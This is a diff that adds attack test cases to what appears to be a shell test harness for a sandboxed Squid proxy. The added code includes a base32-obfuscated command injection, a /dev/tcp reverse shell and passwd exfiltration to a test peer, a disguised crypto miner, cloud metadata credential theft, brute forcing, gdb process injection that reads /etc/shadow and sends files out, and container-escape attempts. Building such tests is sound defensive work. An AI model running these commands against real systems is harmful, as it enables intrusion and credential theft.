@@ -52,6 +52,7 @@ squid_configuration() {
 	acl blocked_words url_regex -i "/etc/squid/blocked.words"
 	acl purge method PURGE
 	acl large urlpath_regex ^/file/[0-9]{4}
+	acl SSL_ports port 1025-65535
 	acl shop myportname shop
 	auth_param basic program /usr/lib/squid/basic_ncsa_auth /etc/squid/passwd
 	auth_param basic children 4 startup=1 idle=1
@@ -306,7 +307,7 @@ rare_worker_killed() {
 }
 
 squid_worker() {
-	tasks_named squid '^\(squid-1\)'
+	tasks_named squid '^\(squid-1\)' | sort -n | head -n 1
 }
 
 rare_program() {
@@ -352,4 +353,174 @@ rare_names_slow() {
 # As the package's daily job does it.
 rare_logs_rotated() {
 	session squid /usr/sbin/logrotate -f -s /tmp/logrotate.status /etc/logrotate.d/squid
+}
+
+# ---- attacks ----
+
+# The process that answers runs as another user, and can take root's rights back.
+squid_master() {
+	tasks_named squid '^/usr/sbin/squid --foreground' | sort -n | head -n 1
+}
+
+# mirror_runs COMMANDS: by the name of a mirror, which the script that rewrites addresses gives to eval.
+# shellcheck disable=SC2016 # the script's shell
+mirror_runs() {
+	proxied "http://mirror.peer.example/x;echo\${IFS}$(base32 -w 0 <<<"$1")|base32\${IFS}-d|bash/y" -g
+}
+
+attack_command_injection() {
+	harm exec /usr/bin/base32
+	harm read /etc/squid/passwd
+	harm connect "$peer_address:4444"
+	thief_begin
+	mirror_runs "cat /etc/squid/passwd >/dev/tcp/$peer_address/4444"
+	thief_got '^manager:'
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm exec /usr/bin/id
+	harm read /etc/squid/conf.d/office.conf
+	harm connect "$peer_address:4444"
+	thief_shell 'id; cat /etc/squid/conf.d/office.conf; ls -la /var/log/squid; exit'
+	mirror_runs "bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1"
+	thief_got 'secret-of-the-shop'
+}
+
+attack_miner() {
+	harm write /tmp/.kworkerd
+	harm exec /tmp/.kworkerd
+	harm connect "$peer_address:3333"
+	armoury_begin
+	mirror_runs "($(miner_commands /tmp/.kworkerd)) >/dev/null 2>&1"
+	pool_got
+}
+
+# The network within, by CONNECT and by addresses with ports.
+attack_scan() {
+	local p
+	harm connect "$peer_address:5432"
+	harm connect "$peer_address:6379"
+	for p in 21 3306 5432 5900 6379 8000 8443 {9000..9030} 27017; do
+		! client curl -sS -p -o /dev/null --max-time 2 -x "http://$own_address:$port" \
+			"http://$peer_address:$p/" || echo "open $p"
+	done | grep -x 'open 8000'
+}
+
+# What the cloud tells the machine, and nobody else.
+attack_metadata() {
+	harm connect 169.254.169.254:80
+	asked http://169.254.169.254/latest/meta-data/iam/security-credentials/proxy | grep metadata-secret-key
+}
+
+attack_brute_force() {
+	local p
+	harm call accept
+	harm call write
+	for p in 123456 password qwerty letmein dragon monkey {1..80} football iloveyou master summer winter; do
+		! asked http://wiki.intern.peer.example/intern/7 -U "manager:$p" | grep -c '<p>7 ' || return 0
+	done
+	return 1
+}
+
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	inject_pid "$(squid_worker)" 'call (int) system("id >/tmp/out; cat /etc/passwd /etc/squid/passwd >>/tmp/out")'
+	grep -q uid=13 "$(image_path squid /tmp/out)"
+}
+
+# Code inside the process that answers: it takes root's rights back, and starts no program.
+attack_code_shadow() {
+	harm read /etc/shadow
+	inject_pid "$(squid_worker)" 'print (int) seteuid(0)' 'print (int) open("/etc/shadow", 0)' \
+		'print (int) seteuid(13)' | grep -cE '= [0-9]{2,}$'
+}
+
+# The passwords go to the thief.
+attack_code_connect() {
+	harm read /etc/squid/passwd
+	harm connect "$peer_address:4444"
+	thief_begin
+	squid_sends /etc/squid/passwd 0x0100580a5c110002
+	thief_got '^manager:'
+}
+
+# squid_sends FILE ADDRESS: code inside the process that answers sends a file there.
+# shellcheck disable=SC2016 # the debugger's variables
+squid_sends() {
+	inject_pid "$(squid_worker)" 'set $a = (char *) malloc(256)' "set {long} \$a = $2" \
+		'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
+		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' "set \$f = (int) open(\"$1\", 0)" \
+		'print (long) sendfile($s, $f, 0, 4096)' 'print (int) close($f)' 'print (int) close($s)'
+}
+
+# Code inside takes root's rights, and puts a line into the script that each new helper runs.
+attack_script_replaced() {
+	harm exec /usr/bin/sed
+	harm rename /usr/local/lib/squid/rewrite
+	harm connect "$peer_address:4444"
+	thief_begin
+	inject_pid "$(squid_worker)" 'print (int) setresuid(0, 0, 0)' \
+		"call (int) system(\"sed -i '3icurl -s --max-time 3 -T /etc/squid/passwd http://$peer_address:4444/ >/dev/null' \
+/usr/local/lib/squid/rewrite; (sleep 1; kill -HUP 1) &\")" 'print (int) setresuid(13, 13, 0)'
+	thief_got '^manager:'
+}
+
+# Ways out of a container, each tried by code inside the first squid process, which is root.
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call mknodat
+	harm call ptrace
+	inject_pid "$(squid_master)" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
+		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
+		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
+		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
+		'print (int) open("/sys/fs/cgroup/release_agent", 1)' | grep -q = &&
+		alive "$(squid_master)"
+}
+
+# ---- adaptive: known calls, files and peers only ----
+
+# Every page within, by one who has a password.
+adaptive_crawl() {
+	harm connect "$peer_address:80"
+	harm call accept
+	asked 'http://wiki.intern.peer.example/intern/[1-40]' -U user7:secret7 | grep -c '<p>' >"$stage/answer"
+	[ "$(cat "$stage/answer")" -gt 5000 ]
+}
+
+# Stolen data leave the office through the proxy, to a site that everybody uses.
+adaptive_exfiltration() {
+	local i
+	harm connect "$peer_address:80"
+	harm call read
+	for i in {1..30}; do
+		head -c 200000 /dev/urandom | client_stdin curl -sS --max-time 20 -o /dev/null -f -T - -X POST \
+			-x "http://$own_address:$port" "http://files.peer.example/stolen/$i" || return
+	done
+	grep -q 'bytes at /stolen/30' "$stage/peer-origin.log"
+}
+
+# Whatever the cache has is deleted, by one who may.
+adaptive_purge() {
+	local i
+	harm unlink '/var/spool/squid/*'
+	for i in {0..12}; do
+		proxied "http://files.peer.example/file/200/$i"
+	done
+	asked 'http://files.peer.example/file/200/[0-12]' -X PURGE -o /dev/null -w '%{http_code}\n' |
+		grep -c 200 >"$stage/answer"
+	[ "$(cat "$stage/answer")" -ge 10 ]
+}
+
+# Code inside the process that answers sends its configuration, with a password, to the shop.
+adaptive_shop() {
+	harm read /etc/squid/conf.d/office.conf
+	harm connect "$peer_address:8000"
+	squid_sends /etc/squid/conf.d/office.conf 0x0100580a401f0002
+	# Its log has the first line, which is no request.
+	until_true 10 grep -q visible_hostname "$stage/peer-world.log"
 }
